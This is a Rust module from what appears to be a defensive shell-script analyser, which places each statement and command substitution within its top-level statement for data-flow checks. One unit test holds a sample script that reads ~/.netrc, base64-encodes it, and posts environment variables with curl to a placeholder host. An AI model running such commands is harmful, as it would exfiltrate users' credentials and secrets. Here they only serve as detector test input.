//! A script (or one code block) as the analysers of data flow read it: every statement,
//! those inside command substitutions too, each placed in the top-level statement it is
//! part of and, inside `NAME=$(…)`, tied to the variable it fills.

use super::super::statements::{
    Limits, MAX_WORDS, Statement, Token, first_statements, is_assignment, substitutions,
};

/// Substitutions inside substitutions read at most this deep.
const MAX_NESTING: usize = 3;

/// Statements read in one script at most: a hostile script of a million lines costs no more.
const MAX_STATEMENTS: usize = 4096;

/// A statement and where it stands.
#[derive(Debug)]
pub(crate) struct Placed {
    /// The statement, offsets into the whole script.
    pub statement: Statement,
    /// The index of the top-level statement it is part of (itself, when top-level).
    pub top: usize,
    /// Where that top-level statement starts and ends.
    pub top_span: (usize, usize),
    /// The variable a substitution it is inside fills (`X=$(…)`).
    pub assigned: Option<String>,
}

/// Every statement of a script, top-level ones first in order, then those inside their
/// substitutions.
#[derive(Debug, Default)]
pub(crate) struct Unit {
    /// The statements.
    pub placed: Vec<Placed>,
    /// Where the first part of the script left unread starts: past [`MAX_STATEMENTS`]
    /// statements or [`MAX_WORDS`] words, at the top or inside substitutions.
    pub unread: Option<usize>,
    /// Words of substitutions read so far (they share one budget).
    nested_words: usize,
}

impl Unit {
    /// Read `script`.
    pub(crate) fn of(script: &str) -> Unit {
        let mut unit = Unit::default();
        let top = first_statements(script, Limits::statements(MAX_STATEMENTS));
        unit.unread = top.unread;
        for (i, statement) in top.statements.into_iter().enumerate() {
            if unit.placed.len() >= MAX_STATEMENTS {
                unit.left_unread(statement.start());
                break;
            }
            let span = (statement.start(), statement.end());
            unit.nested(script, &statement, i, span, 0);
            unit.placed.push(Placed {
                statement,
                top: i,
                top_span: span,
                assigned: None,
            });
        }
        // Top-level statements first, in order: what runs later is found after what ran.
        unit.placed.sort_by_key(|p| (p.top, p.statement.start()));
        unit
    }

    fn nested(
        &mut self,
        script: &str,
        statement: &Statement,
        top: usize,
        top_span: (usize, usize),
        depth: usize,
    ) {
        if depth >= MAX_NESTING {
            return;
        }
        for stage in &statement.stages {
            // `for NAME in $(…)`: the loop's variable holds what the substitution prints.
            let looped = match stage.words.as_slice() {
                [f, name, inn, ..] if f.text == "for" && inn.text == "in" => {
                    Some(name.text.clone())
                }
                _ => None,
            };
            for token in &stage.words {
                if !token.text.contains(['$', '`', '<', '>']) {
                    continue;
                }
                let assigned = token
                    .text
                    .split_once('=')
                    .filter(|_| is_assignment(&token.text))
                    .map(|(name, _)| name.to_string())
                    .or_else(|| looped.clone());
                let raw = script.get(token.start..token.end).unwrap_or("");
                for range in substitutions(raw) {
                    let base = token.start + range.start;
                    let words = MAX_WORDS.saturating_sub(self.nested_words);
                    if self.placed.len() >= MAX_STATEMENTS || words == 0 {
                        self.left_unread(base);
                        return;
                    }
                    let inner = raw.get(range).unwrap_or("");
                    let read = first_statements(
                        inner,
                        Limits {
                            statements: MAX_STATEMENTS,
                            words,
                        },
                    );
                    self.nested_words += read.words;
                    if let Some(at) = read.unread {
                        self.left_unread(base + at);
                    }
                    for mut s in read.statements {
                        if self.placed.len() >= MAX_STATEMENTS {
                            self.left_unread(s.start() + base);
                            return;
                        }
                        shift(&mut s, base);
                        self.nested(script, &s, top, top_span, depth + 1);
                        self.placed.push(Placed {
                            statement: s,
                            top,
                            top_span,
                            assigned: assigned.clone(),
                        });
                    }
                }
            }
        }
    }

    /// What starts at `at` was not read; the first such place is kept.
    fn left_unread(&mut self, at: usize) {
        self.unread = Some(self.unread.map_or(at, |u| u.min(at)));
    }

    /// How much of `script` a unit reads: the whole, or up to the end of the line where
    /// its reading stopped. What follows is read by none of the analysers of data flow.
    pub(crate) fn extent(script: &str) -> usize {
        let stopped = first_statements(script, Limits::statements(MAX_STATEMENTS)).stopped;
        script
            .get(stopped..)
            .and_then(|rest| rest.find('\n'))
            .map_or(script.len(), |n| stopped + n + 1)
    }

    /// Each statement with each of its stages and the stage's index in it.
    pub(crate) fn stages(
        &self,
    ) -> impl Iterator<Item = (&Placed, usize, &super::super::statements::Stage)> {
        self.placed.iter().flat_map(|p| {
            p.statement
                .stages
                .iter()
                .enumerate()
                .map(move |(i, s)| (p, i, s))
        })
    }
}

/// Move every offset of `s` by `base` (a statement read from a slice of the script).
fn shift(s: &mut Statement, base: usize) {
    let token = |t: &mut Token| {
        t.start += base;
        t.end += base;
    };
    for stage in &mut s.stages {
        stage.start += base;
        stage.end += base;
        stage.words.iter_mut().for_each(token);
        for r in &mut stage.redirects {
            r.start += base;
            if let Some(t) = &mut r.target {
                token(t);
            }
            if let Some(b) = &mut r.body {
                b.start += base;
                b.end += base;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn substitutions_are_placed_in_their_statement() {
        let script = "X=$(cat ~/.netrc | base64)\ncurl -d \"$(env)\" https://x";
        let unit = Unit::of(script);
        let found: Vec<(usize, Option<&str>, &str)> = unit
            .stages()
            .map(|(p, _, s)| (p.top, p.assigned.as_deref(), &script[s.start..s.end]))
            .collect();
        assert_eq!(
            found,
            [
                (0, None, "X=$(cat ~/.netrc | base64)"),
                (0, Some("X"), "cat ~/.netrc"),
                (0, Some("X"), "base64"),
                (1, None, "curl -d \"$(env)\" https://x"),
                (1, None, "env"),
            ]
        );
    }

    /// The words of substitutions share one budget: a script of many substitutions, each
    /// within the words of one reading, is read up to it, and says where it stopped.
    #[test]
    fn substitutions_share_the_words_read() {
        let inner = "a ".repeat(30_000);
        let script = format!("echo $({inner}) $({inner}) $({inner})");
        let unit = Unit::of(&script);
        let third = script.rfind("$(").expect("three") + 2;
        assert_eq!(unit.unread, Some(third + 2 * (MAX_WORDS - 60_000)));
        let script = format!("echo $({inner}) $({inner})");
        assert_eq!(Unit::of(&script).unread, None);
    }
}
